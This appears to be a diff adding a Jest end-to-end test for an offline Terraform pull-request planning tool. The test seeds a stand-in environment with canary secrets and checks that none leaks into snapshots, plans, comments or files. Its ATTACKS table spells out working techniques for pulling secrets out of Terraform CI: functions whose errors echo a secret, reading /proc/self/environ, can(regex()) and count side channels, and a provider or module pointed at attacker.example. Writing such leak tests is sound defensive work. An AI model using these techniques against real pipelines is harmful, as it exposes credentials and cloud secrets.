@@ -1,0 +1,336 @@
+import { createHash, randomBytes } from "crypto";
+import * as fs from "fs";
+import * as os from "os";
+import * as path from "path";
+import { loadEstate, type EnvironmentName, type ResolvedEnvironment } from "../../config";
+import { buildApp } from "../../stacks/build";
+import { bootstrapPlatform } from "../../offline/bootstrap";
+import { Rehearsal, run } from "../../offline/harness";
+import type { PlatformData } from "../../offline/standin/platform";
+import { parsePlan } from "../../plan/plan-json";
+import { prPlan, renderResultText, type PrPlanResult } from "../../offline/pr-plan";
+import { renderComment } from "../../offline/pr-comment";
+import { exportSnapshot, parameterPlaceholder, type Snapshot } from "../../offline/snapshot";
+import { smallEstate } from "../fixtures/small-estate";
+import { filesUnder } from "../helpers";
+
+// Issue 17, end to end on the small fixture estate: a live environment seeded with canary secrets
+// (SSM values, a value set by hand, a binding's credentials, a rotated parameter), deployed and planned
+// by the trusted drift job with real Terraform, exported as a snapshot; then pull requests planned
+// against that snapshot offline, benign ones and one per class of attack that got through before. No
+// canary, nor a hash, an encoding or a reversal of one, may reach any output or file a pull request
+// can read: the snapshot, pr-plan's result and text, the comment, Terraform's working directory.
+jest.setTimeout(180_000);
+const ROOT = path.join(__dirname, "..", "..");
+const ENV: EnvironmentName = "production";
+
+const tag = randomBytes(6).toString("hex");
+/** Recognisable secret values, each with this run's random tag in it. */
+const canary = (what: string) => `canary-${what}-${tag}`;
+let env: ResolvedEnvironment;
+let work: string;
+let synthDir: string;
+let committed: any;
+let snapshot: Snapshot;
+let snapshotText: string;
+let canaries: string[];
+let driftPlan: any;
+let liveState: any;
+let rotated: string;
+
+/** The canary value of a secret parameter the drift plan read. */
+const snapshotCanary = () => canaries.find((c) => c.startsWith("canary-ssm"))!;
+
+/** Every form of a canary that would give it away: itself, its tag, hashes, encodings, reversed. */
+function giveaways(): string[] {
+  return canaries.flatMap((c) => [
+    c,
+    c.split("").reverse().join(""),
+    Buffer.from(c).toString("base64"),
+    Buffer.from(c).toString("base64url"),
+    Buffer.from(c).toString("hex"),
+    ...["sha256", "sha1", "md5", "sha512"].map((h) => createHash(h).update(c).digest("hex")),
+  ]).concat([tag]);
+}
+function leaks(text: string): string[] {
+  return giveaways().filter((g) => text.includes(g) || text.toLowerCase().includes(g.toLowerCase()));
+}
+
+beforeAll(async () => {
+  work = fs.mkdtempSync(path.join(os.tmpdir(), "notify-pr-plan-test-"));
+  env = loadEstate(smallEstate()).find((e) => e.name === ENV)!;
+  synthDir = path.join(work, "synth");
+  buildApp(synthDir, [env]).synth();
+  committed = JSON.parse(fs.readFileSync(path.join(synthDir, "stacks", ENV, "cdk.tf.json"), "utf8"));
+
+  // The live side: every parameter holds a canary; the environment is deployed by real Terraform.
+  const platform: PlatformData = bootstrapPlatform(env);
+  for (const [name, p] of Object.entries(platform.aws.parameters)) (p as { value: string }).value = canary(`ssm${name.replace(/\W/g, "")}`);
+  const r = await Rehearsal.start(ROOT, synthDir, { [ENV]: platform }, path.join(work, "live"));
+  try {
+    await r.plan(ENV, "deploy.plan");
+    await r.apply(ENV, "deploy.plan");
+    // New apps are bound through their manifests; the next deploy imports those bindings.
+    await r.plan(ENV, "settle.plan");
+    await r.apply(ENV, "settle.plan");
+    // Then the platform moves on: autoscaled apps at their minimum, a variable set by hand, a binding's
+    // credentials, a rotated secret.
+    const live = r.standin.platforms[ENV];
+    for (const a of Object.values(live.objects("cloudfoundry_app"))) {
+      const declared = env.apps.find((x) => x.name === a.name)!;
+      if (declared.instances.mode === "autoscaled") a.instances = declared.instances.autoscaler.min;
+    }
+    const api = Object.values(live.objects("cloudfoundry_app")).find((a) => a.name === "notify-api")!;
+    api.environment = { ...(api.environment as Record<string, string>), HAND_SET_TOKEN: canary("handset") };
+    // An app and a queue made by hand: running, not managed.
+    live.put("cloudfoundry_app", "0a0a0a0a-0000-4000-8000-000000000001", { ...api, id: "0a0a0a0a-0000-4000-8000-000000000001", name: "made-by-hand", environment: { TOKEN: canary("byhand") } });
+    const q = Object.values(live.objects("aws_sqs_queue"))[0];
+    const url = String(q.url).replace(String(q.name), "productionmade-by-hand");
+    live.put("aws_sqs_queue", url, { ...q, id: url, url, name: "productionmade-by-hand" });
+    for (const b of Object.values(live.objects("cloudfoundry_service_credential_binding"))) b.credential_binding = JSON.stringify({ credentials: { password: canary("bindingpassword") } });
+    // A secret every app holds, notify-api included.
+    const first = env.parameters.find((p) => p.allowedApps === "all" && p.kind === "secret")!.parameterName;
+    rotated = first;
+    (live.data.aws.parameters as Record<string, any>)[first] = { ...live.data.aws.parameters[first], value: canary("rotated"), version: 2 };
+    live.save();
+    canaries = [...Object.values(live.data.aws.parameters).map((p) => p.value), ...Object.values(platform.aws.parameters).map((p) => p.value), canary("handset"), canary("bindingpassword"), canary("byhand")];
+    // The drift job: the plan Terraform makes with the (trusted) plan identity, and the state.
+    driftPlan = (await r.plan(ENV, "drift.plan")).json;
+    liveState = JSON.parse(fs.readFileSync(path.join(work, "live", `${ENV}.tfstate`), "utf8"));
+  } finally {
+    await r.close();
+  }
+  const parsed = parsePlan(driftPlan);
+  if ("problem" in parsed) throw new Error(parsed.problem);
+  snapshot = exportSnapshot({ env, plan: parsed.plan, state: liveState, takenAt: new Date("2026-01-01T10:00:00Z"), commit: "0123456789abcdef" });
+  snapshotText = JSON.stringify(snapshot);
+});
+afterAll(() => {
+  if (work) fs.rmSync(work, { recursive: true, force: true });
+});
+
+describe("the snapshot export", () => {
+  test("the live side really holds the canaries: in the drift plan and the state", () => {
+    expect(leaks(JSON.stringify(driftPlan)).length).toBeGreaterThan(0);
+    expect(JSON.stringify(liveState)).toContain(canaries[0]);
+    expect(JSON.stringify(driftPlan)).toContain(canary("bindingpassword"));
+    expect(JSON.stringify(driftPlan)).toContain(canary("handset"));
+  });
+
+  test("no canary, nor a hash, an encoding or a reversal of one, is in the export", () => {
+    expect(leaks(snapshotText)).toEqual([]);
+  });
+
+  test("the export depends on no secret value at all (no hash, length or prefix): other values of other lengths give the same snapshot", () => {
+    const swap = (text: string) => canaries.reduce((t, c, i) => t.split(c).join(`x${"y".repeat(i * 7 + 3)}`), text);
+    const plan2 = parsePlan(JSON.parse(swap(JSON.stringify(driftPlan))));
+    if ("problem" in plan2) throw new Error(plan2.problem);
+    const again = exportSnapshot({ env, plan: plan2.plan, state: JSON.parse(swap(JSON.stringify(liveState))), takenAt: new Date("2026-01-01T10:00:00Z"), commit: "0123456789abcdef" });
+    expect(JSON.stringify(again)).toBe(snapshotText);
+  });
+
+  test("a parameter is its name and version; an app's variable is that placeholder while it holds the current value, another otherwise", () => {
+    const p = snapshot.platform.aws.parameters[rotated];
+    expect(p).toEqual({ type: "SecureString", value: parameterPlaceholder(rotated, 2), version: 2 });
+    const api = Object.values(snapshot.platform.resources.cloudfoundry_app).find((a) => a.name === "notify-api")!;
+    const variable = env.parameters.find((x) => x.parameterName === rotated)!.name;
+    // The app still runs the value of version 1, which is no longer current: not shown as version 2's.
+    expect((api.environment as Record<string, string>)[variable]).toBe(`<not from config: notify-api/${variable} #1>`);
+    expect((api.environment as Record<string, string>).HAND_SET_TOKEN).toBe("<not from config: notify-api/HAND_SET_TOKEN #1>");
+    // Settings this repository holds stay values.
+    expect((api.environment as Record<string, string>).FLASK_APP).toBe("application.py");
+  });
+
+  test("what runs but Terraform does not manage is there too, sanitized: a pull request adopting it plans an import", () => {
+    const byHand = snapshot.platform.resources.cloudfoundry_app["0a0a0a0a-0000-4000-8000-000000000001"];
+    expect([byHand.name, byHand.environment]).toEqual(["made-by-hand", { TOKEN: "<not from config: made-by-hand/TOKEN #1>" }]);
+    expect(Object.values(snapshot.platform.resources.aws_sqs_queue).map((q) => q.name)).toContain("productionmade-by-hand");
+  });
+
+  test("refuses to export a secret it does not know how to sanitize, naming where, never what", () => {
+    const parsed = parsePlan(driftPlan);
+    if ("problem" in parsed) throw new Error(parsed.problem);
+    const plan = JSON.parse(JSON.stringify(parsed.plan));
+    const queue = plan.prior_state.values.root_module.resources.find((r: any) => r.type === "aws_sqs_queue");
+    queue.values.tags = { leaked: snapshotCanary() };
+    let message = "";
+    try {
+      exportSnapshot({ env, plan, state: liveState, takenAt: new Date() });
+    } catch (err) {
+      message = (err as Error).message;
+    }
+    expect(message).toMatch(/^refused to export: a secret value at \$\.platform\.resources\.aws_sqs_queue\..*\.tags\.leaked;/);
+    expect(leaks(message)).toEqual([]);
+  });
+});
+
+/** A pull request's candidate, planned against the snapshot, with everything it left on disk. */
+let planned = 0;
+async function plan(candidate: unknown): Promise<{ result: PrPlanResult; text: string; files: string }> {
+  // Short: the stand-in's unix sockets live under it (at most 108 bytes a path).
+  const dir = path.join(work, `pr${planned++}`);
+  fs.mkdirSync(dir, { recursive: true });
+  const result = await prPlan({ root: ROOT, env, candidate, reference: committed, snapshot, now: new Date("2026-01-01T11:30:00Z"), work: dir });
+  // Every file left is text, so that searching it is searching everything in it.
+  const binary = Object.keys(filesUnder(dir)).filter((f) => {
+    try {
+      new TextDecoder("utf-8", { fatal: true }).decode(fs.readFileSync(path.join(dir, f)));
+      return false;
+    } catch {
+      return true;
+    }
+  });
+  if (binary.length) throw new Error(`pr-plan left binary files a text search cannot see into: ${binary.join(", ")}`);
+  const files = Object.entries(filesUnder(dir))
+    .map(([f, t]) => `${f}\n${t}`)
+    .join("\n");
+  return { result, text: renderResultText(result), files };
+}
+
+const ssm = (c: any) => Object.keys(c.data.aws_ssm_parameter)[0];
+const secretRef = (c: any) => `data.aws_ssm_parameter.${ssm(c)}.value`;
+const clone = () => JSON.parse(JSON.stringify(committed));
+
+/**
+ * What each attack does get to show, in pr-plan's own text: the placeholder standing in for the secret
+ * (so the attack works, and a real secret would have been shown), or what the attack derived from it.
+ */
+const placeholder = () => snapshot.platform.aws.parameters[`/example/${ENV}/PROVIDER_API_KEY`].value;
+const EVIDENCE: Record<string, (text: string) => boolean> = {
+  "functions whose error repeats their argument (parseint, cidrhost, lookup, timeadd, uuidv5)": (t) => t.includes(placeholder()),
+  // What Terraform's environment holds (the job's own never gets there: CF_PASSWORD is set here).
+  "an error that repeats the process environment": (t) => t.includes("TF_REATTACH_PROVIDERS=") && !t.includes("CF_PASSWORD"),
+  "an import block's id, printed as Preparing import": (t) => t.includes(`Preparing import... [id=${placeholder()}]`),
+  // 3 probes when the value starts with "<", and one queue per character.
+  "side channels that drop the sensitive mark: can(regex()) one character at a time, a count from a secret": (t) => t.includes(`Plan: ${placeholder().length + 3} to add`),
+  "attributes providers compute without the mark: environment of data.cloudfoundry_apps, tags_all": (t) => t.includes("aws_sqs_queue.tagged: create"),
+  "a lookup named by a secret: the provider's not-found error repeats the name": (t) => t.includes(placeholder()),
+  "a second provider configuration with the attacker's URL, and nonsensitive followed by a tab": (t) => t.includes("aws_sqs_queue.sent: create"),
+};
+
+/** Each class of attack that got through the trusted-stack check (issue 17), as a candidate stack. */
+const ATTACKS: Record<string, (c: any) => void> = {
+  "functions whose error repeats their argument (parseint, cidrhost, lookup, timeadd, uuidv5)": (c) => {
+    const s = secretRef(c);
+    c.locals = { ...c.locals, a: `\${parseint(${s}, 10)}`, b: `\${cidrhost(${s}, 1)}`, d: `\${timeadd(${s}, "1h")}`, e: `\${lookup({}, ${s})}`, f: `\${uuidv5(${s}, "x")}` };
+    c.resource.aws_sqs_queue.fn = { name: "production-fn", tags: { a: "${local.a}", b: "${local.b}", d: "${local.d}", e: "${local.e}", f: "${local.f}" } };
+  },
+  "an error that repeats the process environment": (c) => {
+    c.locals = { ...c.locals, g: '${parseint(file("/proc/self/environ"), 10)}' };
+    c.resource.aws_sqs_queue.env = { name: "production-env", tags: { g: "${local.g}" } };
+  },
+  "an import block's id, printed as Preparing import": (c) => {
+    c.import = [...(c.import ?? []), { to: "aws_sqs_queue.imported", id: `\${${secretRef(c)}}` }];
+    c.resource.aws_sqs_queue.imported = { name: "production-imported" };
+  },
+  "side channels that drop the sensitive mark: can(regex()) one character at a time, a count from a secret": (c) => {
+    const s = secretRef(c);
+    c.resource.aws_sqs_queue.probe = { count: `\${can(regex("^<", nonsensitive(${s}))) ? 3 : 0}`, name: "production-probe-${count.index}" };
+    c.resource.aws_sqs_queue.length = { count: `\${length(nonsensitive(${s}))}`, name: "production-length-${count.index}" };
+  },
+  "attributes providers compute without the mark: environment of data.cloudfoundry_apps, tags_all": (c) => {
+    c.output = { environments: { value: "${[for a in data.cloudfoundry_apps.live.apps : a.environment]}" } };
+    c.resource.aws_sqs_queue.tagged = { name: "production-tagged", tags: { s: `\${jsonencode([for a in data.cloudfoundry_apps.live.apps : a.environment])}` } };
+  },
+  "a lookup named by a secret: the provider's not-found error repeats the name": (c) => {
+    c.data.cloudfoundry_app.byname = { name: `\${nonsensitive(${secretRef(c)})}`, space_name: env.space, org_name: env.org };
+  },
+  "a second provider configuration with the attacker's URL, and nonsensitive followed by a tab": (c) => {
+    c.provider.aws = [...[].concat(c.provider.aws), { alias: "attacker", region: "eu-west-1", endpoints: [{ sqs: "https://attacker.example" }] }];
+    c.resource.aws_sqs_queue.sent = { provider: "aws.attacker", name: "production-sent", tags: { s: `\${nonsensitive\t(${secretRef(c)})}` } };
+  },
+};
+
+describe("a pull request's plan against the snapshot", () => {
+  const results: Record<string, { result: PrPlanResult; text: string; files: string }> = {};
+  beforeAll(async () => {
+    // A credential in the environment of the process that runs pr-plan: Terraform must never get it.
+    process.env.CF_PASSWORD = canary("processenv");
+    canaries.push(canary("processenv"));
+    const memory = clone();
+    const api = Object.keys(memory.resource.cloudfoundry_app).find((k) => memory.resource.cloudfoundry_app[k].name === "notify-api")!;
+    memory.resource.cloudfoundry_app[api].memory = "3072M";
+    const jobs: [string, unknown][] = [
+      ["unchanged", clone()],
+      ["memory", memory],
+      ...Object.entries(ATTACKS).map(([name, f]) => {
+        const c = clone();
+        f(c);
+        return [name, c] as [string, unknown];
+      }),
+    ];
+    try {
+      for (let i = 0; i < jobs.length; i += 2) await Promise.all(jobs.slice(i, i + 2).map(async ([n, c]) => (results[n] = await plan(c))));
+    } finally {
+      delete process.env.CF_PASSWORD;
+    }
+  });
+
+  test("the committed stack plans what the live platform needs and nothing else: the rotated secret and the variable set by hand", () => {
+    const { result } = results.unchanged;
+    expect("summary" in result.plan && result.plan.summary).toMatch(/^Plan: 0 to add, \d+ to change, 0 to destroy\.$/);
+    const variable = env.parameters.find((x) => x.parameterName === rotated)!.name;
+    const holders = env.apps.filter((a) => a.secretEnv.some((s) => s.name === variable)).map((a) => a.name);
+    const apps = ("lines" in result.plan ? result.plan.lines : []).filter((l) => l.startsWith("cloudfoundry_app."));
+    expect(apps.map((l) => [l.split(":")[0], /environment \(([^)]*)\)/.exec(l)?.[1]])).toEqual(
+      [...new Set(["notify-api", ...holders])].sort().map((a) => [`cloudfoundry_app.${a}`, [a === "notify-api" ? "-HAND_SET_TOKEN" : "", holders.includes(a) ? `~${variable}` : ""].filter(Boolean).join(" ")]),
+    );
+    expect(result.guard.verdict).toBe("safe");
+    expect(result.snapshot).toEqual({ taken_at: "2026-01-01T10:00:00.000Z", age_hours: 1.5, stale: false, commit: "0123456789abcdef" });
+  });
+
+  test("a change shows in the offline diff and in the plan, with the guard's verdict", () => {
+    const { result, text } = results.memory;
+    expect(result.diff).toEqual([expect.stringMatching(/^app notify-api: memory .* -> 3072M$/)]);
+    expect(text).toMatch(/cloudfoundry_app\.notify-api: update: .*memory/);
+    expect(text).toContain("plan guard (production): nothing destroyed or replaced");
+  });
+
+  test.each(Object.keys(ATTACKS))("no canary reaches anything the pull request can read: %s", (name) => {
+    const { result, text, files } = results[name];
+    // The attack ran and reached what it aimed at: the snapshot's placeholder, never the value.
+    expect([name, EVIDENCE[name](text)]).toEqual([name, true]);
+    const comment = renderComment([result], { commit: "f".repeat(40), fullTextAt: "the build log" });
+    expect(leaks([JSON.stringify(result), text, comment, files].join("\n"))).toEqual([]);
+  });
+
+  test("a stale or missing snapshot is said, not hidden", async () => {
+    const stale = await prPlan({ root: ROOT, env, candidate: clone(), reference: committed, snapshot: { missing: "no snapshot at x.json" }, now: new Date() });
+    expect(renderResultText(stale)).toContain("snapshot: MISSING (no snapshot at x.json); no plan against the live estate");
+    expect(stale.guard.verdict).toBe("not run");
+    const old = { ...results.unchanged.result, snapshot: { taken_at: "2026-01-01T10:00:00.000Z", age_hours: 30, stale: true } };
+    expect(renderResultText(old)).toContain("30 hours old (STALE: older than 3 hours; the drift job has not exported since)");
+  });
+
+  test("a stack that needs another provider or a module is said to be not planned offline", async () => {
+    const c = clone();
+    c.terraform.required_providers.http = { source: "hashicorp/http" };
+    const r = await prPlan({ root: ROOT, env, candidate: c, reference: committed, snapshot, now: new Date() });
+    expect(r.plan).toEqual({ skipped: 'not planned offline: it needs provider "http": the stand-in serves only cloudfoundry and aws' });
+    const d = clone();
+    d.data.external = { x: { program: ["sh"] } };
+    d.resource.terraform_data = { y: {} };
+    d.terraform.cloud = { organization: "attacker" };
+    const r2 = await prPlan({ root: ROOT, env, candidate: d, reference: committed, snapshot, now: new Date() });
+    expect(r2.plan).toEqual({
+      skipped:
+        'not planned offline: resource type terraform_data needs provider "terraform": the stand-in serves only cloudfoundry and aws; data type external needs provider "external": the stand-in serves only cloudfoundry and aws; it has a terraform cloud block: the plan runs with a local state only',
+    });
+    const m = clone();
+    m.module = { x: { source: "git::https://attacker.example/m.git" } };
+    expect((await prPlan({ root: ROOT, env, candidate: m, reference: committed, snapshot, now: new Date() })).plan).toEqual({
+      skipped: "not planned offline: it has module blocks: a module would be fetched from outside, and the plan runs offline",
+    });
+  });
+});
+
+describe("the pr-plan command", () => {
+  test("refuses a candidate with a duplicate key before anything reads it, and plans nothing", async () => {
+    const file = path.join(work, "duplicate.json");
+    const text = JSON.stringify(clone());
+    fs.writeFileSync(file, text.replace('{"//"', '{"locals":{"x":"${nonsensitive(data.aws_ssm_parameter.a.value)}"},"locals":{},"//"'));
+    const r = await run(process.execPath, [path.join(ROOT, "bin", "run.js"), "commands/pr-plan.ts", ENV, file, "--snapshot", path.join(work, "none.json")], { cwd: ROOT, env: process.env });
+    expect([r.code, r.stdout]).toEqual([2, ""]);
+    expect(r.stderr).toBe(`pr-plan: refused the candidate stack ${file}: the key at $."locals" appears twice in one object (a JSON reader keeps one of them, Terraform reads both)\n`);
+  });
+});
